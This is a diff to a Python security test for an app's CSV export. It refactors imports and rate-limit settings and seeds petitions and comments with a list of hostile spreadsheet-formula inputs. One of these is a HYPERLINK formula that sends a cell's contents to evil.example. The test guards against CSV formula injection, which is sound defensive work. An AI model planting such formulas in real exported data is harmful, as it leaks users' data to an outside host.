@@ -9,10 +9,11 @@ import io
 import re
 from pathlib import Path
 
+from app.csv_export import FORMULA_START
+from consultations.config import ConsultationSettings
 from security_world import all_routes, report, session_for
 
 ROOT = Path(__file__).resolve().parents[2]
-FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
 NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
@@ -52,7 +53,7 @@ def _hostile_world(app, helpers, world):
         for i, text in enumerate(HOSTILE):
             _petition(session, text[:80], "open", background=text, details=text, creator=text[:120],
                       department_id=world.department_id, email=f"hostile{i}@example.org")
-    limits = service.CommentLimits(comment_rate="100000/60", comment_ip_rate="100000/60")
+    limits = ConsultationSettings(comment_rate_limit="100000/60", comment_ip_rate_limit="100000/60")
     comment_ids = []
     for i, text in enumerate(HOSTILE + [f"{s} {HOSTILE[i % len(HOSTILE)]}" for i, s in enumerate(SEEDS * 2)]):
         author = helpers.add_user(app, f"csv{i}@example.org", name=HOSTILE[i % len(HOSTILE)][:80])
